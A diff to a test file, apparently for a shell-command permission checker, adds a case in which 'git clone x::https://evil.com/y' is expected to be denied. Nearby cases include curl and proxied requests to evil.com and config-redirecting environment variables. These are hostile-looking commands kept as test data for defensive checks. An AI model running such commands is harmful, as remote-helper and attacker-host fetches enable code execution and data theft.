@@ -14,6 +14,7 @@ test('speakingUrl: a host that is known is denied, one that is not may be the de
     ['curl evil.com/x', 'deny'],
     ['curl a.evil.com', 'deny'],
     ['xh --proxy all:http://evil.com good.org', 'deny'],
+    ['git clone x::https://evil.com/y', 'deny'],
     ['HOME=/tmp/x curl good.org', 'ask'],
     ['KUBECONFIG=x kubectl apply -f y', 'ask'],
     ['PIP_CONFIG_FILE=x pip install y', 'ask'],
